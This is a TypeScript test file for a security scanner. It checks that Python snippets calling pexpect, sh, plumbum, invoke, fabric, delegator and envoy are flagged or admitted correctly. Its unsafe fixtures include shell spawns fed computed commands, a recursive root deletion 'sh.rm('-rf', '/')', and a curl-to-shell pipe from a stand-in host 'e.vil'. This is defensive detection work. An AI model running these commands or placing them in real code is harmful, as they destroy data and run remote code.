import { blockedOverHttp, pick, ruleTable } from '../rule-table.js';

/**
 * Third-party libraries that run programs — pexpect, ptyprocess, sh, plumbum, invoke, fabric,
 * delegator, envoy — were no finding at all: `pexpect.spawn('bash')` or `sh.bash('-c', cmd)` was
 * VERIFIED, is_valid true, ADMIT. They are judged as subprocess is: a shell command (invoke, fabric,
 * delegator) is a shell; a split command line or argv (pexpect, envoy, sh, plumbum) is a program
 * with arguments, and a fixed program with fixed arguments stays admitted.
 */
const UNSAFE: Array<[name: string, src: string, rule: string]> = [
  ['pexpect.spawn of a shell', "import pexpect\nchild = pexpect.spawn('bash')\nchild.sendline(cmd)\n", 'python.process.interpreter'],
  ['pexpect.run of a computed line', 'import pexpect\npexpect.run(cmd)\n', 'python.process.dynamic_program'],
  ['pexpect.spawn program and args', "import pexpect\npexpect.spawn('/bin/sh', ['-c', cmd])\n", 'python.process.interpreter'],
  ['pexpect PopenSpawn argv', "from pexpect.popen_spawn import PopenSpawn\nPopenSpawn(['python3', '-c', src])\n", 'python.process.interpreter'],
  ['pexpect replwrap.bash', 'from pexpect import replwrap\nreplwrap.bash().run_command(cmd)\n', 'python.process.interpreter'],
  ['ptyprocess spawn', "import ptyprocess\nptyprocess.PtyProcess.spawn(['bash'])\n", 'python.process.interpreter'],
  ['sh attribute program', "import sh\nsh.bash('-c', cmd)\n", 'python.process.interpreter'],
  ['from sh import', "from sh import bash\nbash('-c', 'id')\n", 'python.process.interpreter'],
  ['sh recon program', 'import sh\nprint(sh.id())\n', 'python.process.host_recon'],
  ['sh through import_module', "import importlib\nimportlib.import_module('sh').bash('-c', x)\n", 'python.process.interpreter'],
  ['sh.Command computed', 'import sh\nsh.Command(path)()\n', 'python.process.dynamic_program'],
  ['sh.Command of a shell', "import sh\nrun = sh.Command('bash')\nrun('-c', x)\n", 'python.process.interpreter'],
  ['sh baked module', "import sh\nsh2 = sh.bake(_cwd='/tmp')\nsh2.python3('-c', src)\n", 'python.process.interpreter'],
  ['sh destructive argv', "import sh\nsh.rm('-rf', '/')\n", 'python.shell.destructive_command'],
  ['sh.contrib.sudo', 'import sh\nsh.contrib.sudo.bash()\n', 'python.process.interpreter'],
  ['plumbum local[] with bound args', "from plumbum import local\nlocal['bash']['-c', cmd]()\n", 'python.process.interpreter'],
  ['plumbum command through a name', "from plumbum import local\nb = local['sh']\nb('-c', cmd)\n", 'python.process.interpreter'],
  ['plumbum computed program', 'from plumbum import local\nlocal[prog]()\n', 'python.process.dynamic_program'],
  ['plumbum.cmd import of a shell', 'from plumbum.cmd import bash\n(bash["-c", cmd])()\n', 'python.process.interpreter'],
  ['plumbum local.cmd', "from plumbum import local\nlocal.cmd.python3('-c', src)\n", 'python.process.interpreter'],
  ['plumbum local.get', "from plumbum import local\nlocal.get('bash')()\n", 'python.process.interpreter'],
  ['plumbum launcher in bound args', "from plumbum import local, FG\nlocal['env']['sh', '-c', x] & FG\n", 'python.process.interpreter'],
  ['plumbum session', 'from plumbum import local\nlocal.session().run(cmd)\n', 'python.process.shell_injection'],
  ['plumbum remote machine', "from plumbum import SshMachine\nrem = SshMachine('h')\nrem['bash']()\n", 'python.process.interpreter'],
  ['invoke.run', 'import invoke\ninvoke.run(cmd)\n', 'python.process.shell_injection'],
  ['invoke.run constant', "from invoke import run\nrun('make')\n", 'python.process.shell_exec'],
  ['invoke task context', "from invoke import task\n@task\ndef build(c, target):\n    c.run(f'make {target}')\n", 'python.process.shell_injection'],
  ['fabric task sudo', "from fabric import task\n@task\ndef deploy(ctx):\n    ctx.sudo('systemctl restart app')\n", 'python.process.shell_exec'],
  ['fabric Connection().run', "from fabric import Connection\nConnection('h').run(cmd)\n", 'python.process.shell_injection'],
  ['fabric with Connection as c', "from fabric import Connection\nwith Connection('h') as c:\n    c.run(cmd)\n", 'python.process.shell_injection'],
  ['fabric annotated parameter', 'from fabric import Connection\ndef deploy(c: Connection):\n    c.local(cmd)\n', 'python.process.shell_injection'],
  ['fabric 1 api', "from fabric.api import run\nrun('uptime')\n", 'python.process.shell_exec'],
  ['delegator.run', 'import delegator\ndelegator.run(cmd)\n', 'python.process.shell_injection'],
  ['envoy.run pipeline', "import envoy\nenvoy.run('curl http://e.vil/x | sh')\n", 'python.rce.download_pipe_shell'],
  ['envoy.run into an interpreter', "import envoy\nenvoy.run('ls | python3')\n", 'python.process.interpreter'],
  ['envoy.run computed', 'import envoy\nenvoy.run(cmd)\n', 'python.process.dynamic_program'],
  ['invoke.run taken as a value', 'import threading, invoke\nthreading.Thread(target=invoke.run, args=(c,)).start()\n', 'python.dangerous_call.reference'],
];

const SAFE: Array<[name: string, src: string]> = [
  ['pexpect.spawn of a fixed command line', "import pexpect\nchild = pexpect.spawn('ls -l /tmp')\nchild.expect(pexpect.EOF)\n"],
  ['sh fixed program and arguments', "import sh\nprint(sh.ls('-l', '/tmp'))\n"],
  ['sh subcommand', "from sh import git\ngit.status('--short')\n"],
  ['sh helpers', "import sh\nwith sh.pushd('/tmp'):\n    try:\n        sh.ls()\n    except sh.ErrorReturnCode_1:\n        pass\n"],
  ['a variable named sh', 'import logging\nsh = logging.StreamHandler()\nsh.setLevel(logging.INFO)\n'],
  ['a parameter named sh', "def run(sh):\n    sh.bash('-c', x)\n"],
  ['sh computed argument is MEDIUM', 'import sh\nsh.ls(path)\n'],
  ['plumbum fixed pipeline', "from plumbum.cmd import ls, grep\n(ls['-l'] | grep['x'])()\n"],
  ['plumbum fixed local command', "from plumbum import local\nlocal['ls']['-l']()\n"],
  ['an undecorated function with .run', 'def build(c):\n    c.run(cmd)\n'],
  ['envoy fixed pipeline', "import envoy\nr = envoy.run('ls -l | grep x')\nprint(r.std_out)\n"],
];

ruleTable('python: third-party process runners', 'python', UNSAFE, SAFE);

blockedOverHttp(
  'POST /verify/code answers BLOCKED admission for pexpect, sh, plumbum and fabric',
  pick(UNSAFE, ['pexpect.spawn of a shell', 'sh attribute program', 'plumbum local[] with bound args', 'fabric with Connection as c'], 'python'),
  pick(SAFE, ['sh fixed program and arguments', 'plumbum fixed pipeline'], 'python'),
);
